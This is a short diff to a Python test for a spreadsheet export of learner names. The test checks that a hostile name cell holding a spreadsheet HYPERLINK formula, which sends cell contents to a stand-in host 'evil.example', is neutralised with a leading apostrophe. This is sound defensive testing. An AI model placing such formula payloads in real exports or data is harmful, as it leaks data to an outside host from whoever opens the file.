@@ -171,7 +171,7 @@ def test_hostile_names_are_neutralised(office):
     batch = create_batch(office["institution"], "CME", office["staff"])
     sheet, rows = sheet_rows(learners_xlsx(batch))
     maya = rows[2]
-    assert maya[3] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" and maya[4] == "'+Chen"
+    assert maya[3] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")' and maya[4] == "'+Chen"
     assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
 
 
